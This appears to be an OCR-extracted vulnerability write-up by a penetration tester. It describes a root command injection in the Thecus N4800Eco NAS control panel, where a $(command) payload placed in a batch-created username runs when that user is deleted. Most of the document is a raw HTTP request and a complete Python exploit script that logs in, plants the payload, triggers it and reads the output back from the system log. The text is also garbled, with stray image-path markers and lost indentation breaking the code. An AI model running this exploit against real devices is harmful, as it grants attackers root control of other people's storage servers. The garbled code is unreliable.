Thecus N4800Eco Nas Server Control Panel Comand Injection

Command Injection vulnerability that lets attacker for executing command with root privileges.
I have discovered command injection vulnerability on the Thecus N4800Eco Nas Server control panel during penetration test. I could not analyze source code because I didn't have enough time. Hence, I will describe only how vulnerability is detected.


Firstly, I have tried to add user through Local User Configuration, but server didn't accept special chars such as $)( . Also, user and group could be created using Batch Input option that is under the User and Group Authentication section. I set Batch Content as $(ifconfig),22222,9999 that corresponds to username, password and group name.
POST/adm/setmain.php?fun=setbatch HTTP/1.1
Host: target
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0
Accept: */*
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Content-Type: application/x-www-form-urlencoded
Content-Length: 42
Origin: https://target
Connection: close
Referer: https://target/adm/index.php
Cookie: select_md=0; MYSESSID=*
So that filtering can be bypassed using Batch Content option for adding malicious payload as username. After the user adding process, I sent second request for deleting$(ifconfig) user and Local User remove succeeds response is returned. However the user was not deleted, it is very interesting to me. I tried to understand what happened and noticed that there is a system log section.Surprisingly I saw that ifconfig command is executed.
For verifying the command injection vulnerability i tried another command such as id
So there is a comman injection vulnerability that lets to execute command with root privilege. Username parameter seems to vulnerable. It is time to write basic Python script.
import requests
import sys
import urllib3
# To fix SSL error that occurs when script is started.
# 1- Open /etc/ssl/openssl.cnf file
# At the bottom of the file:
# [system_default_sect]
# MinProtocol = TLSv1.2
# CipherString = DEFAULT@SECLEVEL=2
# 2- Set value of MinProtocol as TLSv1.0
def readResult(s, target):
d = {"fun": "setlog",
"action": "query",
"params": '[{"start":0,"limit":1,"catagory":"sys","level":"all"}]'
url = "https://" + target + "/adm/setmain.php"
resultReq = s.post(url, data=d, verify=False)
dict = resultReq.text.split()
print("[+] Reading system log...\n")
#Set your command output range
def delUser(s, target, command):
d = {
"action": "delete",
"username": "$("+command+")"
url = "https://" + target + "/adm/setmain.php?fun=setlocaluser"
delUserReq = s.post(url, data=d, allow_redirects=False, verify=False)
if 'Local User remove succeeds' in delUserReq.text:
print('[+] %s command was executed successfully' % command)print('[-] %s command was not executed!' %command)
readResult(s, target)
def addUser(s, target, command):
d = {'batch_content': '%24('+command+')%2C22222%2C9999'}
url = "https://" + target + "/adm/setmain.php?fun=setbatch"
addUserReq = s.post(url, data=d, allow_redirects=False, verify=False)
if 'Users and groups were created successfully.' in addUserReq.text:
print('[+] Users and groupswere created successfully')
print('[-] Users and groups were not created')
delUser(s, target, command)
def login(target, username, password, command=None):
s = requests.Session()
d = {
"&eplang": "english",
"p_pass": password,
"p_user": username,
"username": username,
"pwd": password,
"action": "login",
"option": "com_extplorer"
url = "https://" + target + "/adm/login.php"
loginReq = s.post(url, data=d, allow_redirects=False, verify=False)
if '"success":true' in loginReq.text:
print('[+] Authentication successful')
elif'"success":false' inloginReq.text:
print('[-] Authentication failed!')
print('[-] Something went wrong!')
addUser(s, target, command)
def main(args):
if len(args) != 5:
print("usage: %s targetIp:port username password command" % (args[0]))
print("Example admin admin id")
login(target=args[1],username=args[2], password=args[3], command=args[4])
if __name__ =="__main__":
# Author: Metin Yunus Kandemir